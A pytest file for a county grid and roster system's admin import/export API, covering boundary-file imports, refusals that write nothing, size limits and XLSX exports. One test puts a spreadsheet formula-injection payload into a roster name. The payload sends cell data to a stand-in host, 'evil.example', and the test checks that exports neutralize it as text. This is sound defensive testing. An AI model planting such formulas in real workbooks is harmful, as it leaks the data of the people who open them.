"""The admin import/export API: the CLI's report as JSON, 422 with nothing written, caps."""

from __future__ import annotations

import zipfile

import pyogrio.raw
import pytest

from grid.db import fetch_value
from tests.boundary_files import mbox, replace, tiny_county, write

GRID_TABLES = ("node", "node_piece", "person", "post")


async def checksum(db) -> str:
    """md5 of every row of the grid tables in id order: byte-for-byte unchanged or not."""
    parts = [
        await fetch_value(db, f"SELECT md5(COALESCE(string_agg(md5(t::text), '' ORDER BY t.id), '')) FROM {table} t")
        for table in GRID_TABLES
    ]
    return ":".join(parts)


@pytest.fixture
async def client(client, auth_headers):
    """Imports and exports are the county IT administrator's: every request here is an admin's."""
    client.headers.update(await auth_headers("admin"))
    return client


async def _post(client, path, **form):
    with path.open("rb") as fh:
        return await client.post("/api/v1/grid/imports", files={"file": (path.name, fh)}, data=form)


async def test_a_good_file_imports_and_returns_the_report(client, db, tmp_path):
    res = await _post(client, write(tmp_path / "tiny.geojson", tiny_county()))
    assert res.status_code == 200, res.text
    body = res.json()
    assert body["ok"] and body["inserted"] == 15 and body["written"]
    assert await fetch_value(db, "SELECT count(*) FROM node WHERE code LIKE '99900%'") == 5


async def test_a_bad_file_is_422_with_the_report_and_nothing_written(client, db, tmp_path):
    before = await checksum(db)
    bad = replace(tiny_county(), "G2", geometry=mbox(0, 500, 500, 1005))
    res = await _post(client, write(tmp_path / "bad.gpkg", bad))
    assert res.status_code == 422
    error = res.json()["error"]
    assert error["code"] == "import_refused" and "G2" in error["message"]
    problems = error["details"]["report"]["problems"]
    assert [(p["check"], p["code"]) for p in problems] == [("outside_parent", "G2")]
    assert problems[0]["lon"] and problems[0]["lat"]
    assert await checksum(db) == before


async def test_a_zipped_shapefile_imports_but_not_without_its_prj(client, tmp_path):
    shp = write(tmp_path / "t.shp", tiny_county(), crs="EPSG:4546")
    for with_prj in (False, True):
        archive = tmp_path / f"t{with_prj}.zip"
        with zipfile.ZipFile(archive, "w") as z:
            for ext in (".shp", ".shx", ".dbf") + ((".prj",) if with_prj else ()):
                z.write(shp.with_suffix(ext), f"t{ext}")
        res = await _post(client, archive, dry_run="true")
        if with_prj:
            assert res.status_code == 200 and res.json()["crs"] == "EPSG:4546" and not res.json()["written"]
        else:
            assert res.status_code == 422 and res.json()["error"]["code"] == "missing_crs"


async def test_unsupported_and_oversized_uploads_are_refused_clearly(client, settings, tmp_path):
    res = await client.post("/api/v1/grid/imports", files={"file": ("roster.xlsx", b"PK...")})
    assert res.status_code == 415 and "不支持这种文件格式" in res.json()["error"]["message"]
    settings.import_max_bytes = 1000  # the app's own settings object (app.state.settings)
    res = await _post(client, write(tmp_path / "tiny.geojson", tiny_county()))
    assert res.status_code == 413 and res.json()["error"]["code"] == "payload_too_large"


async def test_a_subtree_downloads_as_geopackage_and_geojson(client, tmp_path):
    res = await client.get("/api/v1/grid/nodes/610827001-U1/export?format=gpkg")
    assert res.status_code == 200 and res.headers["content-type"] == "application/geopackage+sqlite3"
    (tmp_path / "u1.gpkg").write_bytes(res.content)
    meta, _, _geoms, data = pyogrio.raw.read(str(tmp_path / "u1.gpkg"))
    codes = list(data[list(meta["fields"]).index("code")])
    assert codes[0] == "610827001-U1" and all(c.startswith("610827001-U1") for c in codes)
    res = await client.get("/api/v1/grid/nodes/610827001-U1/export?format=geojson")
    assert res.status_code == 200 and len(res.json()["features"]) == len(codes)
    assert (await client.get("/api/v1/grid/nodes/NOPE/export")).status_code == 404


def _roster_csv(path, rows):
    import csv

    with path.open("w", encoding="utf-8-sig", newline="") as fh:
        csv.writer(fh).writerows([["node_code", "role", "name", "phone", "start_date"], *rows])
    return path


async def test_roster_upload_imports_good_rows_and_strict_refuses_with_422(client, db, tmp_path):
    path = _roster_csv(tmp_path / "r.csv", [
        ["610827001-U1", "deputy", "甲", "13800000011", "2026-02-01"],
        ["610827001-U1", "deputy", "乙", "12345", "2026-02-01"],
    ])  # fmt: skip
    with path.open("rb") as fh:
        res = await client.post("/api/v1/roster/imports", files={"file": ("r.csv", fh)}, data={"strict": "true"})
    assert res.status_code == 422 and res.json()["error"]["details"]["report"]["errors"][0]["row"] == 3
    with path.open("rb") as fh:
        res = await client.post("/api/v1/roster/imports", files={"file": ("r.csv", fh)}, data={"errors": "xlsx"})
    assert res.status_code == 200 and res.headers["x-roster-errors"] == "1"
    (tmp_path / "e.xlsx").write_bytes(res.content)
    from openpyxl import load_workbook

    sheet = load_workbook(tmp_path / "e.xlsx").worksheets[0]
    assert (
        sheet["F1"].value == "错误原因" and "手机号“12345”格式不对" in sheet["F3"].value and sheet["F2"].value is None
    )
    people = await fetch_value(db, "SELECT count(*) FROM person WHERE phone = '13800000011'")
    assert people == 1


async def test_roster_downloads_as_xlsx(client, tmp_path):
    res = await client.get("/api/v1/roster/export?code=610827001-U1-C1-G1")
    assert res.status_code == 200
    (tmp_path / "r.xlsx").write_bytes(res.content)
    from openpyxl import load_workbook

    rows = list(load_workbook(tmp_path / "r.xlsx").worksheets[0].iter_rows(values_only=True))
    assert rows[0] == ("node_code", "role", "name", "phone", "start_date") and rows[1][0] == "610827001-U1-C1-G1"
    assert (await client.get("/api/v1/roster/export?code=NOPE")).status_code == 404


def _geojson_4546(path, features):
    """A GeoJSON file whose coordinates are CGCS2000 3-degree GK CM 111E metres, as delivered."""
    import json

    path.write_text(json.dumps({
        "type": "FeatureCollection",
        "crs": {"type": "name", "properties": {"name": "urn:ogc:def:crs:EPSG::4546"}},
        "features": [{"type": "Feature", "properties": props, "geometry": {
            "type": "Polygon", "coordinates": [ring]}} for props, ring in features],
    }))  # fmt: skip
    return path


async def test_coordinates_of_1e30_or_a_floor_of_1e300_are_the_files_4xx_not_a_500(client, db, tmp_path):
    before = await checksum(db)
    x, y = 500_000.0, 4_170_000.0  # metres inside zone CM 111E
    square = [[x, y], [x + 100, y], [x + 100, y + 100], [x, y + 100], [x, y]]
    far = [[1e30, 1e30], [1e30 + 1, 1e30], [1e30, 1e30 + 1], [1e30, 1e30]]
    cases = {
        "far.geojson": [({"code": "999000", "level": "county"}, square),
                        ({"code": "999001", "level": "township", "parent_code": "999000"}, far)],
        "floor.geojson": [({"code": "999000", "level": "county"}, square),
                          ({"code": "F9", "level": "floor", "parent_code": "999000", "floor_from": 1e300,
                            "floor_to": 2}, square)],
    }  # fmt: skip
    for name, features in cases.items():
        res = await _post(client, _geojson_4546(tmp_path / name, features))
        assert res.status_code == 422, res.text
        error = res.json()["error"]
        assert error["code"] == "bad_boundary_file" and name in error["message"], error
        assert error["details"]["row"] == 2, error
        assert str(tmp_path) not in res.text
    assert await checksum(db) == before


async def test_a_broken_geopackage_is_named_as_uploaded_never_by_the_servers_path(client, tmp_path):
    broken = tmp_path / "村界-2026.gpkg"
    for content in (b"SQLite format 3\x00" + b"\x00" * 2000, b"not a geopackage at all"):
        broken.write_bytes(content)
        res = await _post(client, broken)
        assert res.status_code == 422, res.text
        assert "村界-2026.gpkg" in res.json()["error"]["message"]
        for leak in ("wuzhang-import-", "upload.gpkg", "/tmp"):
            assert leak not in res.text, res.text


async def test_a_formula_name_uploaded_comes_back_as_text_in_the_export_and_the_error_workbook(client, tmp_path):
    from openpyxl import load_workbook

    formula = '=HYPERLINK("http://evil.example/"&A1,"click")'
    path = _roster_csv(tmp_path / "r.csv", [
        ["610827001-U1", "deputy", formula, "13800000012", "2026-02-01"],
        ["610827001-U1", "deputy", formula, "12345", "2026-02-01"],
    ])  # fmt: skip
    with path.open("rb") as fh:
        res = await client.post("/api/v1/roster/imports", files={"file": ("r.csv", fh)}, data={"errors": "xlsx"})
    assert res.status_code == 200 and res.headers["x-roster-errors"] == "1"
    (tmp_path / "e.xlsx").write_bytes(res.content)
    res = await client.get("/api/v1/roster/export?code=610827001-U1")
    assert res.status_code == 200
    (tmp_path / "x.xlsx").write_bytes(res.content)
    for book in ("e.xlsx", "x.xlsx"):
        cells = [c for row in load_workbook(tmp_path / book).worksheets[0].iter_rows() for c in row]
        named = [c for c in cells if c.value == formula]
        assert named and all(c.data_type == "s" and c.quotePrefix for c in named), book
        assert not any(c.data_type == "f" for c in cells), book


async def test_a_roster_of_two_million_blank_rows_answers_at_once(client, tmp_path):
    from tests.integration.test_roster_import import _rows_xml, _xlsx_by_hand

    path = _xlsx_by_hand(tmp_path / "blank.xlsx", _rows_xml(2_000_000, lambda r: b""))
    with path.open("rb") as fh:
        res = await client.post("/api/v1/roster/imports", files={"file": ("名册.xlsx", fh)})
    assert res.status_code == 200 and res.json()["rows"] == 0 and res.json()["source"] == "名册.xlsx"
